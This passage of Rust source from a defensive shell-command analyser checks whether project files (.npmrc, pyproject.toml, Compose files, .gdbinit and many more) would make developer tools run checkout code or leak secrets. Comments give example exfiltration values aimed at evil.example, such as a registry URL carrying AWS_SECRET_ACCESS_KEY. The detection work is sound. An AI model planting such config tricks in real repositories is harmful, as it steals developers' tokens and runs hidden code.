                        "`{}` (or a file it includes) names a program cargo runs (a wrapper, runner, linker, credential provider or alias)",
                        f.display()
                    ));
                }
                if w.cx.look.is_file(&f) && cargo_config_says(&f, w, &cargo_config_intercepts, 0) {
                    return Some(format!(
                        "`{}` sends cargo's requests through a proxy or trusts a certificate authority it names: a host of the checkout could read them, the person's registry token included (`cargo owner`)",
                        f.display()
                    ));
                }
                if w.cx.look.is_file(&f)
                    && cargo_config_says(&f, w, &cargo_config_binds_registry, 0)
                {
                    return Some(format!(
                        "`{}` gives a registry name its index (or makes one the default): cargo sends the person's token for that name to the host the file names",
                        f.display()
                    ));
                }
            }
        }
        return None;
    }
    // uv and poetry run the project's virtual environment's interpreter to learn about it
    // (`uv pip list` queries `.venv/bin/python`; poetry uses an in-project `.venv`).
    if matches!(base, "uv" | "poetry")
        && venv_verb(base, u)
        && let Some(v) = project_dirs(dir, root).map(|d| d.join(".venv")).find(|v| {
            w.has(v) || w.cx.look.exists(&v.join("pyvenv.cfg")) || w.cx.look.exists(&v.join("bin"))
        })
    {
        return Some(format!(
            "`{base}` runs the interpreter of `{}`, a virtual environment in the checkout",
            v.display()
        ));
    }
    // uv reads `.python-version` (`.python-versions`) of the directory or a parent as a Python
    // request in any of its forms: a path to an interpreter or an environment (`./tools/py`,
    // `env`), or a program's name looked up on `PATH`, besides a version. The interpreter it
    // finds is run to learn about it (`uv python find`, `uv pip list`).
    if base == "uv"
        && venv_verb(base, u)
        && let Some(f) = project_dirs(dir, root)
            .flat_map(|d| [".python-version", ".python-versions"].map(|f| d.join(f)))
            .find(|f| file_says(w, f, &|t| !python_versions_only(t)))
    {
        return Some(format!(
            "`{}` names an interpreter by path or by program name, not only a version: `uv` would run it to learn about it",
            f.display()
        ));
    }
    // The package managers send their registry requests as the project's rc files say: a
    // value that expands an environment variable (`//evil.example/:_authToken=${NPM_TOKEN}`,
    // `registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/`) sends the variable to the
    // host the file names, and a proxy with TLS checks turned off or a certificate authority
    // of the checkout lets a host of the checkout read the requests, the person's own token
    // for the real registry included. `npm view`, `npm whoami`, `bun outdated` contact it.
    if matches!(
        base,
        "npm" | "pnpm" | "pnpx" | "bun" | "bunx" | "yarn" | "yarnpkg"
    ) && !pnpm_version_only(u)
        && let Some(f) = project_dirs(dir, root).find_map(|d| {
            let files: &[&str] = match base {
                "bun" | "bunx" => &[".npmrc", "bunfig.toml"],
                // pnpm 11 reads its network settings (`httpsProxy`, `strictSsl`, `ca`) from
                // `pnpm-workspace.yaml`, expanding `${NAME}` in its values.
                "pnpm" | "pnpx" => &[".npmrc", "pnpm-workspace.yaml"],
                "yarn" | "yarnpkg" => &[".npmrc", ".yarnrc", ".yarnrc.yml"],
                _ => &[".npmrc"],
            };
            files.iter().map(|f| d.join(f)).find(|f| {
                w.has(f)
                    || w.cx
                        .look
                        .read_to_string(f)
                        .is_ok_and(|t| registry_config_sends(&t))
            })
        })
    {
        return Some(format!(
            "`{}` puts an environment variable into a registry setting, sends the requests through a proxy or certificate authority of the checkout, or names another configuration file: `{base}` would send secrets to a host the files name",
            f.display()
        ));
    }
    // The interpreter can also be named by the project's configuration: uv's `pip.python`
    // (`uv.toml`, or `[tool.uv.pip]` in `pyproject.toml`), and poetry's `virtualenvs.path`
    // (`poetry.toml`), where poetry looks for the project's environment.
    if matches!(base, "uv" | "poetry")
        && venv_verb(base, u)
        && let Some(f) = project_dirs(dir, root).find_map(|d| {
            let files: &[(&str, &[&str])] = if base == "uv" {
                &[
                    ("uv.toml", &["pip", "python"]),
                    ("pyproject.toml", &["tool", "uv", "pip", "python"]),
                ]
            } else {
                &[("poetry.toml", &["virtualenvs", "path"])]
            };
            files.iter().find_map(|(name, key)| {
                let f = d.join(name);
                (w.has(&f) || w.cx.look.is_file(&f) && toml_has(&f, &|t| has_key(t, key)))
                    .then_some(f)
            })
        })
    {
        return Some(format!(
            "`{}` names the Python interpreter or environment `{base}` runs to learn about it",
            f.display()
        ));
    }
    // poetry and uv look a package source's credentials up by the source's name (poetry's
    // `http-basic.NAME` and keyring entries, `POETRY_HTTP_BASIC_NAME_PASSWORD`; uv's
    // `UV_INDEX_NAME_PASSWORD`), and the project's configuration gives that name its URL
    // (`[[tool.poetry.source]]`, `[[tool.uv.index]]`, `[[index]]` in `uv.toml`): a verb that
    // asks the sources about newer versions sends the person's credentials to the host the
    // checkout names.
    if matches!(base, "uv" | "poetry")
        && queries_sources(base, u)
        && let Some(f) = project_dirs(dir, root).find_map(|d| {
            let files: &[(&str, &[&str])] = if base == "uv" {
                &[
                    ("uv.toml", &["index"]),
                    ("pyproject.toml", &["tool", "uv", "index"]),
                ]
            } else {
                &[("pyproject.toml", &["tool", "poetry", "source"])]
            };
            files.iter().find_map(|(name, key)| {
                let f = d.join(name);
                (w.has(&f) || w.cx.look.is_file(&f) && toml_has(&f, &|t| has_key(t, key)))
                    .then_some(f)
            })
        })
    {
        return Some(format!(
            "`{}` names package sources: `{base}` would send the person's credentials for a source's name to the host the file gives it",
            f.display()
        ));
    }
    // Corepack, whose shims `yarn` and `pnpm` (and `npm`, once enabled) often are, runs the
    // release the nearest `package.json` names in `packageManager` before the command,
    // `--version` included: a version is fetched from the npm registry, but a URL or a path
    // (`yarn@https://evil.example/y.tgz`) is whatever the checkout points to.
    if matches!(base, "npm" | "npx" | "pnpm" | "pnpx" | "yarn" | "yarnpkg")
        && let Some(f) = project_dirs(dir, root)
            .map(|d| d.join("package.json"))
            .find(|f| {
                w.has(f)
                    || w.cx.look.read_to_string(f).is_ok_and(|t| {
                        t.contains("packageManager") && !package_manager_is_a_release(&t)
                    })
            })
    {
        return Some(if w.has(&f) {
            format!(
                "the line writes `{}`, whose `packageManager` may name the release corepack runs by a URL or a path: files of the checkout or of any host",
                f.display()
            )
        } else {
            format!(
                "`{}` names the package manager release corepack runs by a URL or a path, not a version: files of the checkout or of any host",
                f.display()
            )
        });
    }
    // Corepack (0.30 and later) loads the nearest `.corepack.env` of the directories it walks up
    // for the manifest and takes each `COREPACK_*` variable in it: the registry it fetches the
    // release from (`COREPACK_NPM_REGISTRY`), the keys it checks the release with
    // (`COREPACK_INTEGRITY_KEYS`), URLs allowed in `packageManager`. A release by its version is
    // then whatever that host serves.
    if matches!(base, "npm" | "npx" | "pnpm" | "pnpx" | "yarn" | "yarnpkg")
        && let Some(f) = project_dirs(dir, root)
            .map(|d| d.join(".corepack.env"))
            .find(|f| w.has(f) || w.cx.look.exists(f))
    {
        return Some(format!(
            "`{}` sets corepack's variables: the registry it fetches the package manager release from, and the keys it checks that release with",
            f.display()
        ));
    }
    match base {
        // pnpm loads the project's pnpmfile (its `updateConfig` hook runs at start, whatever
        // the command) and installs its config dependencies before anything else.
        "pnpm" | "pnpx" if !pnpm_version_only(u) => project_dirs(dir, root).find_map(|d| {
            let names = |f: &str, keys: &[&str]| {
                w.has(&d.join(f))
                    || w.cx.look.read_to_string(d.join(f))
                        .is_ok_and(|t| keys.iter().any(|k| t.contains(k)))
            };
            let file = [".pnpmfile.cjs", ".pnpmfile.mjs", "pnpmfile.js"]
                .iter()
                .map(|f| d.join(f))
                .find(|f| w.has(f) || w.cx.look.exists(f));
            let named = names("pnpm-workspace.yaml", &["pnpmfile", "configDependencies"])
                || names(".npmrc", &["pnpmfile"]);
            (file.is_some() || named).then(|| {
                format!(
                    "`{}` holds a pnpmfile or config dependencies: code pnpm loads before any command",
                    d.display()
                )
            })
        })
        .or_else(|| pnpm_release_from_checkout_registry(dir, root, w)),
        // .NET 10's `global.json` `sdk.paths` names where the SDK is looked for: `dotnet
        // --version` and `dotnet --info` run the SDK found there.
        "dotnet" => project_dirs(dir, root)
            .map(|d| d.join("global.json"))
            .find(|f| {
                w.has(f)
                    || w.cx.look.is_file(f)
                        && !w.cx.look.read_to_string(f).is_ok_and(|t| !t.contains("\"paths\""))
            })
            .map(|f| {
                format!(
                    "`{}` names directories to take the .NET SDK from: dotnet would run the one there",
                    f.display()
                )
            }),
        "yarn" | "yarnpkg" => {
            // `yarn --cwd DIR` reads DIR's `.yarnrc` files instead.
            let mut args = u.args().map(text);
            let mut cwd = None;
            while let Some(a) = args.next() {
                if a == "--cwd" {
                    cwd = args.next();
                } else if let Some(v) = a.strip_prefix("--cwd=") {
                    cwd = Some(v);
                }
            }
            let dir = match cwd {
                Some(c) if c.contains(['$', '`']) || c.is_empty() => {
                    return Some("yarn runs in a directory named at run time (`--cwd`), whose `.yarnrc` files can name the release it runs".to_owned());
                }
                Some(c) => resolve(c, dir),
                None => dir.to_path_buf(),
            };
            yarn_release(&dir, root, w).or_else(|| yarn_script(u, &dir, root, w))
        }
        // gdb reads `./.gdbinit` of the directory it starts in (where the auto-load safe path
        // allows it, which a person's `~/.gdbinit` often opens) unless told `-nx`.
        "gdb" | "gdb-multiarch" => {
            let nx = u
                .args()
                .map(text)
                .any(|a| matches!(a, "-nx" | "--nx" | "-n"));
            let init = dir.join(".gdbinit");
            (!nx && (w.has(&init) || w.cx.look.is_file(&init))).then(|| {
                format!(
                    "`{}` holds gdb commands gdb runs at start (`shell` runs programs)",
                    init.display()
                )
            })
        }
        // Packer before 1.11 looks for plugins in the directory it runs in, for every
        // command (`packer version` included), and starts each `packer-plugin-*` it finds
        // there with `describe` to learn its components.
        "packer" => {
            let named = |f: &Path| {
                f.parent() == Some(dir)
                    && f.file_name()
                        .and_then(|n| n.to_str())
                        .is_some_and(|n| n.starts_with(PACKER_PLUGIN_PREFIX))
            };
            if dir.starts_with(UNKNOWN_DIR) {
                return Some(
                    "packer runs in a directory known only at run time, where it would start the plugins it finds"
                        .to_owned(),
                );
            }
            w.paths()
                .iter()
                .map(|(_, f)| f.clone())
                .find(|f| named(f))
                .or_else(|| {
                    std::fs::read_dir(dir)
                        .ok()?
                        .flatten()
                        .map(|e| e.path())
                        .find(|f| named(f))
                })
                .map(|f| {
                    format!(
                        "`{}` is a Packer plugin in the directory packer runs in: packer starts it to learn its components, before any command",
                        f.display()
                    )
                })
        }
        "bazel" | "bazelisk" => project_dirs(dir, root)
            .map(|d| d.join("tools/bazel"))
            .find(|f| w.has(f) || w.cx.look.is_file(f))
            .map(|f| format!("`{}` is a wrapper bazel runs first", f.display())),
        // tox 4 imports the inline plugin `toxfile.py` (or `☣.py`) beside the project's
        // configuration while it reads its options, `--version` and `--help` included.
        "tox" | "tox4" => project_dirs(dir, root)
            .flat_map(|d| ["toxfile.py", "\u{2623}.py"].map(|f| d.join(f)))
            .find(|f| w.has(f) || w.cx.look.is_file(f))
            .map(|f| format!("`{}` is a tox plugin tox imports (runs) at start", f.display())),
        // Leiningen's launcher puts the classes `.lein-classpath` names first, and it
        // evaluates `project.clj` (Clojure code) before any task, `version` included.
        "lein" => project_dirs(dir, root)
            .flat_map(|d| [".lein-classpath", "project.clj"].map(|f| d.join(f)))
            .find(|f| w.has(f) || w.cx.look.is_file(f))
            .map(|f| format!("`{}` is code Leiningen loads before any task", f.display())),
        "rails" => project_dirs(dir, root)
            .map(|d| d.join("bin/rails"))
            .find(|f| w.has(f) || w.cx.look.is_file(f))
            .map(|f| format!("`rails` in an application runs `{}`", f.display())),
        // The launcher finds the project by its `.mvn` directory and starts the JVM with the
        // options of `.mvn/jvm.config` (`-javaagent:x.jar` runs code); Maven reads
        // `.mvn/maven.config` as command-line options before it acts on `--version` (`-l FILE`
        // writes the log there, `-D` sets properties) and loads `.mvn/extensions.xml` first.
        // Any entry there counts, whatever its name: the directory is the project's settings.
        "mvn" | "mvnd" => project_dirs(dir, root)
            .map(|d| d.join(".mvn"))
            .find(|f| w.has(f) || w.cx.look.exists(f))
            .map(|f| {
                format!(
                    "`{}` holds Maven's project settings: JVM options (`jvm.config`: a Java agent runs), command-line options read before `--version` (`maven.config`) and build extensions (code)",
                    f.display()
                )
            }),
        "poetry" => project_dirs(dir, root).find_map(|d| {
            let plugins = d.join(".poetry/plugins");
            let pyproject = d.join("pyproject.toml");
            (w.has(&plugins)
                || w.has(&pyproject)
                || w.cx.look.exists(&plugins)
                || w.cx.look.is_file(&pyproject)
                    && toml_has(&pyproject, &|t| {
                        has_key(t, &["tool", "poetry", "requires-plugins"])
                    }))
            .then(|| {
                format!(
                    "`{}` has project plugins, code poetry loads before anything else",
                    d.display()
                )
            })
        }),
        "terraform" | "tofu" => {
            let sub = *operand_words(u, base).first()?;
            let loads = !matches!(sub, "version" | "fmt" | "help" | "-version" | "-help");
            let plugins = dir.join(".terraform");
            (loads && (w.has(&plugins) || w.cx.look.is_dir(&plugins))).then(|| {
                format!(
                    "`{sub}` runs the provider plugins in `{}`, files of the checkout",
                    plugins.display()
                )
            })
        }
        // npm reads the project's `.npmrc` (beside the nearest `package.json`) before any
        // command: `viewer = browser` with `browser = ./x` makes `npm help` run `./x`, and the
        // other keys name programs npm runs (`editor`, `shell`, `script-shell`, `git`) or code
        // node loads (`node-options`, `init-module`, `onload-script` of older npm).
        "npm" if !pnpm_version_only(u) => {
            // `--prefix DIR` (`-C DIR`) makes DIR the project, whose `.npmrc` npm reads.
            let mut args = u.args().map(text);
            let mut prefix = None;
            while let Some(a) = args.next() {
                if matches!(a, "--prefix" | "-C") {
                    prefix = args.next();
                } else if let Some(v) = a.strip_prefix("--prefix=") {
                    prefix = Some(v);
                }
            }
            let dir = match prefix {
                Some(c) if c.contains(['$', '`']) || c.is_empty() => {
                    return Some("npm runs for a project named at run time (`--prefix`), whose `.npmrc` can name programs npm runs".to_owned());
                }
                Some(c) => resolve(c, dir),
                None => dir.to_path_buf(),
            };
            project_dirs(&dir, root).find_map(|d| {
                let f = d.join(".npmrc");
                (w.has(&f) || w.cx.look.read_to_string(&f).is_ok_and(|t| npmrc_runs(&t))).then(|| {
                    format!(
                        "`{}` names a program npm runs (`browser`, `viewer`, `editor`, `shell`, `script-shell`, `git`), code node loads (`node-options`) or another file npm reads as configuration (`userconfig`, `globalconfig`, `prefix`)",
                        f.display()
                    )
                })
            })
        }
        // codespell reads `.codespellrc`, `setup.cfg` and `pyproject.toml` of the directory it
        // runs in and passes each key of their codespell section as the option `--KEY`: a
        // `write-changes` key (or `w`, any prefix argparse takes for it) fixes the files, an
        // `interactive` one asks and then fixes them.
        // A project's `Pulumi.yaml` can name the backend (`backend: url: https://…`): every
        // verb that logs in (`pulumi whoami`, `stack ls`, `config`) sends the person's
        // `PULUMI_ACCESS_TOKEN` there to check it.
        "pulumi" if !pulumi_offline(u) => project_dirs(dir, root)
            .flat_map(|d| ["Pulumi.yaml", "Pulumi.yml"].map(|f| d.join(f)))
            .find(|f| {
                w.has(f)
                    || w.cx.look.read_to_string(f).is_ok_and(|t| {
                        t.lines()
                            .any(|l| l.trim_end().trim_matches(['"', '\'']).starts_with("backend"))
                    })
            })
            .map(|f| {
                format!(
                    "`{}` names the backend `pulumi` logs in to: it would send the person's access token there",
                    f.display()
                )
            }),
        // Miller reads `./.mlrrc` of the directory it runs in and takes each line as a main
        // flag: `I` rewrites the input files in place, `prepipe-gunzip` hands each file name
        // to a shell (before Miller 6.23.1 unquoted), `load` adds DSL code to `put`/`filter`.
        "mlr" | "miller" => {
            let f = dir.join(".mlrrc");
            (w.has(&f) || f.exists()).then(|| {
                format!(
                    "`{}` holds flags Miller takes as its own (`-I` edits the files in place, a prepipe runs a shell)",
                    f.display()
                )
            })
        }
        // pylint runs the `init-hook` of its configuration (Python code) and imports the
        // modules `load-plugins` names while it reads its options, before `--help` prints.
        "pylint" => project_dirs(dir, root)
            .flat_map(|d| PYLINT_CONFIGS.map(|f| d.join(f)))
            .find(|f| file_says(w, f, &|t| t.contains("init-hook") || t.contains("load-plugins")))
            .map(|f| {
                format!(
                    "`{}` names code pylint runs while it reads its options (`init-hook`, `load-plugins`)",
                    f.display()
                )
            }),
        // flake8 imports the local plugins its configuration names (`[flake8:local-plugins]`,
        // from `paths` of the checkout) to learn their options, before `--help` or
        // `--version` prints.
        "flake8" => project_dirs(dir, root)
            .flat_map(|d| [".flake8", "setup.cfg", "tox.ini"].map(|f| d.join(f)))
            .find(|f| file_says(w, f, &|t| t.contains("local-plugins")))
            .map(|f| {
                format!(
                    "`{}` names local plugins, code flake8 imports before anything else",
                    f.display()
                )
            })
            .or_else(|| {
                let files = [".flake8", "setup.cfg", "tox.ini"];
                lint_config_widens(u, dir, root, w, &files, &["flake8"])
            }),
        // pycodestyle reads `[pycodestyle]` (or `[pep8]`) of the project's `setup.cfg` and
        // `tox.ini` as options.
        "pycodestyle" => {
            let files = ["setup.cfg", "tox.ini"];
            lint_config_widens(u, dir, root, w, &files, &["pycodestyle", "pep8"])
        }
        // Jekyll (and its forks) starts with `Bundler.setup` when the directory holds a
        // `Gemfile`: Bundler evaluates it (Ruby) and requires its plugin group, `--version`
        // and `--help` included.
        "jekyll" | "bridgetown" | "bunto" => {
            let f = dir.join("Gemfile");
            (w.has(&f) || w.cx.look.exists(&f)).then(|| {
                format!(
                    "`{}` is Ruby that `{base}` has Bundler evaluate at start",
                    f.display()
                )
            })
        }
        // RSpec reads `.rspec` and `.rspec-local` of the directory as ERB templates before it
        // acts on its options: `<%= … %>` runs Ruby even for `--version` and `--help`.
        "rspec" => [".rspec", ".rspec-local"]
            .map(|f| dir.join(f))
            .into_iter()
            .find(|f| file_says(w, f, &|t| t.contains("<%")))
            .map(|f| {
                format!(
                    "`{}` is an ERB template RSpec evaluates (runs Ruby) while it reads its options",
                    f.display()
                )
            }),
        // TFLint starts the plugins its configuration enables to learn their versions and
        // rules, `--version` included, looking first in `./.tflint.d/plugins` or the
        // configuration's `plugin_dir`.
        "tflint" => {
            let plugins = dir.join(".tflint.d");
            if w.has(&plugins) || w.cx.look.exists(&plugins) {
                return Some(format!(
                    "`{}` holds TFLint plugins, programs tflint starts before anything else",
                    plugins.display()
                ));
            }
            [".tflint.hcl", ".tflint.json"]
                .map(|f| dir.join(f))
                .into_iter()
                .find(|f| file_says(w, f, &|t| t.contains("plugin_dir")))
                .map(|f| {
                    format!(
                        "`{}` names the directory tflint starts its plugins from",
                        f.display()
                    )
                })
        }
        // Terragrunt before 0.73 hands `version` (and every other word it does not know) to
        // terraform, after it has parsed the directory's `terragrunt.hcl`: `run_cmd()` in its
        // `locals` runs a command while the file is read, and hooks run around the command.
        "terragrunt" => ["terragrunt.hcl", "terragrunt.hcl.json"]
            .map(|f| dir.join(f))
            .into_iter()
            .find(|f| w.has(f) || w.cx.look.exists(f))
            .map(|f| {
                format!(
                    "`{}` is the configuration terragrunt evaluates (its `run_cmd()` runs commands) before it hands `version` to terraform",
                    f.display()
                )
            }),
        // rebar3 evaluates `rebar.config.script` (Erlang) and installs and loads the
        // `project_plugins` of `rebar.config` before it parses its command, `--version` and
        // `help` included.
        "rebar3" => {
            let script = dir.join("rebar.config.script");
            let config = dir.join("rebar.config");
            if w.has(&script) || w.cx.look.exists(&script) {
                Some(format!(
                    "`{}` is Erlang rebar3 evaluates at start",
                    script.display()
                ))
            } else {
                file_says(w, &config, &|t| t.contains("plugins")).then(|| {
                    format!(
                        "`{}` names plugins rebar3 fetches, builds and loads at start",
                        config.display()
                    )
                })
            }
        }
        "shellcheck" => shellcheck_prints_sources(u, dir, root, w),
        "helm" => helm_chart_link(u, dir, w.cx.look),
        "perldoc" => perldoc_link(u, dir, w),
        "dpkg" | "dpkg-query" | "info" | "sdcv" | "pw-config" | "lsblk" | "lscpu" | "lsmem"
        | "systemctl" | "systemd-analyze" | "fortune" | "postconf" => {
            data_tree_link(base, u, dir, w)
        }
        // GPAC's `mp4box -info` probes an input that is no ISO media file with its filter
        // chain, whose DASH/HLS reader fetches the segments a manifest names.
        "ffprobe" | "gst-discoverer-1.0" | "mediainfo" | "mp4box" | "MP4Box" => {
            media_playlist(base, u, dir, w)
        }
        // Compose loads the project's files for every verb but `version` and `ls`, and fetches
        // the remote resources they `include` or `extend` (a git repository, an OCI artifact)
        // before anything else, the environment interpolated into their addresses.
        "docker" | "podman" | "docker-compose" | "podman-compose" => compose_remote(base, u, dir, w),
        // PlatformIO reads `platformio.ini` of the directory it runs in for every command
        // (`ProjectConfig` finds the core directory through it): `core_dir` (or `home_dir`,
        // `platforms_dir`, `packages_dir`) moves where it loads platforms from, and a
        // platform's `platform.py` is imported when `pio boards` lists them; `extra_configs`
        // reads any other file as INI, whose parse error quotes its first line.
        "pio" | "platformio" => {
            let f = dir.join("platformio.ini");
            file_says(w, &f, &|t| {
                ["core_dir", "home_dir", "platforms_dir", "packages_dir", "extra_configs"]
                    .iter()
                    .any(|k| t.contains(k))
            })
            .then(|| {
                format!(
                    "`{}` moves where PlatformIO loads its platforms' code from (`core_dir`) or names other files it reads (`extra_configs`)",
                    f.display()
                )
            })
        }
        // SoX expands a playlist operand (`.m3u`, `.pls`) and opens each entry as a file name:
        // an entry starting with `|` is a command it runs through `popen()`, a URL one it
        // fetches with wget through a shell.
        "soxi" | "sox" | "play" | "rec" => sox_playlist(u, dir, w),
        // ImageMagick picks the coder by the file's content (and extension): a file of the
        // checkout that is an MVG, MSL or SVG drawing names further files to read (`|CMD`
        // ones run) or, for MSL, files to write; a PostScript one is run by Ghostscript.
        "identify" | "magick" | "convert" | "display" | "montage" | "composite" | "mogrify"
        | "compare" | "stream" | "zbarimg" | "chafa" => image_script(u, dir, w),
        // timg reads images with GraphicsMagick (the same MVG, MSL and SVG coders) and, when
        // that fails, videos with libav, whose HLS, DASH and ffconcat demuxers fetch what a
        // playlist of the checkout names.
        "timg" => media_playlist(base, u, dir, w).or_else(|| image_script(u, dir, w)),
        // `apptainer inspect IMAGE` (and `run-help`, which is `inspect --helpfile`) reads a SIF's
        // inspect metadata, but for any other single-file image, or a SIF without (or with a
        // broken) `inspect-metadata.json` descriptor, it runs `apptainer exec IMAGE /bin/sh`:
        // the image's own shell, the home directory bound in; a sandbox directory's
        // `.singularity.d` files are read through links. Only a name that is no file (the
        // command fails) is proven.
        "apptainer" | "singularity" => apptainer_image(u, dir, w),
        // SCons runs the project's SConstruct (Python) to print its help: `scons -h` is the
        // project's own help, built by running it. Only `-H` (scons's options) and
        // `--version` are answered without it.
        "scons" => {
            let own = u.args().map(text).all(|a| {
                matches!(a, "-H" | "--help-options" | "-v" | "--version")
            }) && u.args().next().is_some();
            if own {
                return None;
            }
            project_dirs(dir, root)
                .flat_map(|d| {
                    SCONSTRUCT_NAMES.map(|f| d.join(f))
                })
                .find(|f| w.has(f) || w.cx.look.is_file(f))
                .map(|f| format!("`{}` is Python that `scons` runs before anything else, `-h` included", f.display()))
        }
        // Node CLIs that load a JavaScript configuration of the project before they parse
        // their options, `--version` and `--help` included ([`JS_CONFIG_FIRST`]).
        "sequelize" | "sequelize-cli" | "ava" | "prisma" => js_config_first(u, base, dir, root, w),
        "yamllint" => yamllint_extends_secret(u, dir, root, w),
        "gixy" | "gixy-next" => gixy_includes_secret(u, dir, w),
        "yara" => yara_includes_secret(u, dir, w),
        "ninja" => ninja_includes_secret(u, dir, w),
        // Vagrant builds its environment before any command but `-v`/`--version`: it loads
        // the plugins of `.vagrant/plugins` and evaluates the `Vagrantfile` (Ruby) of the
        // directory or the nearest parent, `vagrant -h` included.
        "vagrant" => {
            let args: Vec<&str> = u.args().map(text).collect();
            // `box list` and `plugin` (but `--local`) are run with no Vagrantfile and no
            // plugins.
            let words = operand_words(u, "vagrant");
            if args.iter().any(|a| matches!(*a, "-v" | "--version"))
                || matches!(words[..], ["box", "list", ..])
                || words.first() == Some(&"plugin") && !args.contains(&"--local")
            {
                return None;
            }
            project_dirs(dir, root)
                .flat_map(|d| ["Vagrantfile", "vagrantfile", ".vagrant/plugins"].map(|f| d.join(f)))
                .find(|f| w.has(f) || w.cx.look.exists(f))
                .map(|f| format!("`{}` is code `vagrant` loads (evaluates) before any command, help included", f.display()))
        }
        // hledger 1.40 and later read `hledger.conf` of the directory they run in or the
        // nearest parent holding one: its lines are options hledger takes as its own, for
        // every command (`-o ~/.bashrc` writes the report there, `-f` reads another journal).
        "hledger" => project_dirs(dir, root)
            .map(|d| d.join("hledger.conf"))
            .find(|f| w.has(f) || w.cx.look.is_file(f))
            .map(|f| {
                format!(
                    "`{}` holds options hledger takes as its own (`-o FILE` writes the report to any file)",
                    f.display()
                )
            })
            .or_else(|| hledger_includes_secret(u, dir, w)),
        // flex takes `%option` lines of the scanner it reads as options: `header-file=` and
        // `tables-file` write those files, also when `-t` prints the scanner.
        "flex" | "lex" => flex_options_write(u, dir, w),
        "codespell" => [".codespellrc", "setup.cfg", "pyproject.toml"]
            .iter()
            .map(|f| dir.join(f))
            .find(|f| {
                w.has(f)
                    || w.cx.look.read_to_string(f).is_ok_and(|t| codespell_config_writes(&t))
            })
            .map(|f| {
                format!(
                    "`{}` turns on codespell's fixing (`write-changes`): codespell would rewrite the files",
                    f.display()
                )
            }),
        "node" | "nodejs" => node_manifests_unproven(u, dir, w),
        _ if crate::programs::is_python(base) => {
            let Some(module) = python_module(u) else {
                return inline_imports_shadowed(u, dir, w);
            };
            let top = module.split('.').next().unwrap_or(&module);
            if let Some(shadow) = [dir.join(format!("{top}.py")), dir.join(top)]
                .into_iter()
                .find(|f| w.has(f) || w.cx.look.exists(f))
            {
                return Some(format!(
                    "`-m {module}` imports `{}` from the working directory before the installed module",
                    shadow.display()
                ));
            }
            let shadow = shadowed_stdlib(dir, w)?;
            Some(format!(
                "`-m {module}` puts the working directory first on the import path, and `{}` there takes the place of the standard library module it is named after (imported by the module or by Python)",
                shadow.display()
            ))
        }
        _ => None,
    }
}

/// The names of the plugins Packer starts when it finds them ([`reads_code`]).
const PACKER_PLUGIN_PREFIX: &str = "packer-plugin-";

/// The default names of a Compose project's files, and of the overrides read with them.
const COMPOSE_FILES: [&str; 8] = [
    "compose.yaml",
    "compose.yml",
    "docker-compose.yml",
    "docker-compose.yaml",
    "compose.override.yaml",
    "compose.override.yml",
    "docker-compose.override.yml",
    "docker-compose.override.yaml",
];

/// Compose (`docker compose`, `podman compose`, `docker-compose`) run in `dir`: a project file
/// named by `-f` that is itself a remote resource (`-f oci://…`, `-f https://…/x.git`), or a
/// project file (`-f FILE`, `COMPOSE_FILE` in the project's `.env`, or the default names in the
/// project directory or the nearest parent holding one) that `include`s or `extends` a remote resource
/// (a git repository, `oci://`), or an address interpolated from the environment. Compose's
/// remote loaders (on unless `--offline`) fetch it with `git ls-remote`/`git fetch` or from the
/// registry while the project loads, for `ps`, `logs`, `config --services` alike, the
/// person's variables put in the address (`https://evil.example/${AWS_SECRET_ACCESS_KEY}.git`).
/// Local files it includes are read in turn (a few levels deep).
fn compose_remote(base: &str, u: &Unit, dir: &Path, w: &LineWrites) -> Option<String> {
    let words: Vec<&str> = u.args().map(text).collect();
    let verb_at = if matches!(base, "docker" | "podman") {
        let ops = operand_words(u, base);
        if ops.first() != Some(&"compose") {
            return None;
        }
        ops.get(1).copied()
    } else {
        operand_words(u, base).first().copied()
    };
    if matches!(verb_at, Some("version" | "ls")) || words.contains(&"--offline") {
        return None;
    }
    let mut files: Vec<PathBuf> = Vec::new();
    let mut project = dir.to_path_buf();
    let mut k = 0;
    while k < words.len() {
        let a = words[k];
        let value = |long: &str, short: Option<&str>| -> Option<&str> {
            if a == long || short == Some(a) {
                words.get(k + 1).copied()
            } else {
                a.strip_prefix(long)
                    .and_then(|r| r.strip_prefix('='))
                    .or_else(|| {
                        short
                            .and_then(|s| a.strip_prefix(s))
                            .filter(|r| !r.is_empty())
                    })
            }
        };
        if let Some(f) = value("--file", Some("-f")) {
            if f.contains(['$', '`']) {
                return Some("Compose reads a project file named at run time: it may include remote resources Compose fetches".to_owned());
            }
            if compose_remote_reference(f) {
                return Some(format!(
                    "`{f}` is a remote project file (a git repository, an OCI artifact) Compose fetches while it loads the project"
                ));
            }
            files.push(resolve(f, dir));
        } else if let Some(d) = value("--project-directory", None) {
            if d.contains(['$', '`']) {
                return Some("Compose reads the project of a directory named at run time: its files may include remote resources Compose fetches".to_owned());
            }
            project = resolve(d, dir);
        }
        k += 1;
    }
    if files.is_empty() {
        let env = project.join(".env");
        if let Some(list) = head_of(w, &env, 64 * 1024).and_then(|t| {
            t.lines().find_map(|l| {
                let l = l
                    .trim_start()
                    .strip_prefix("export ")
                    .unwrap_or(l.trim_start());
                l.strip_prefix("COMPOSE_FILE=")
                    .map(|v| v.trim().trim_matches(['"', '\'']).to_owned())
            })
        }) {
            files.extend(
                list.split([':', ','])
                    .filter(|f| !f.is_empty())
                    .map(|f| resolve(f, &project)),
            );
        }
    }
    if files.is_empty() {
        let root = w.cx.cwd;
        let found = project_dirs(&project, root).find(|d| {
            COMPOSE_FILES[..4]
                .iter()
                .any(|f| w.has(&d.join(f)) || w.cx.look.is_file(&d.join(f)))
        })?;
        files.extend(COMPOSE_FILES.iter().map(|f| found.join(f)));
    }
    let mut seen = 0;
    while let Some(f) = files.pop() {
        seen += 1;
        if seen > 16 {
            return Some("Compose reads more project files than shclass follows: they may include remote resources Compose fetches".to_owned());
        }
        if w.has(&f) {
            return Some(format!(
                "the line writes `{}`, a Compose project file: what it includes Compose fetches",
                f.display()
            ));
        }
        let Some(text) = head_of(w, &f, 1024 * 1024) else {
            continue;
        };
        let base_dir = f.parent().unwrap_or(dir);
        for r in compose_references(&text) {
            if compose_remote_reference(r) {
                return Some(format!(
                    "`{}` includes or extends `{r}`, a remote resource (or an address from the environment) Compose fetches while it loads the project",
                    f.display()
                ));
            }
            files.push(resolve(r, base_dir));
        }
    }
    None
}

/// The files a Compose file names: the entries of its top-level `include` (a list of paths,
/// or of mappings whose `path:` is one) and the `file:` of each `extends` mapping (`extends:
/// web` alone names a service of the same file). Read by lines and indentation, as Compose
/// files are written; a flow list (`include: [a.yml]`) is split at its commas.
fn compose_references(text: &str) -> Vec<&str> {
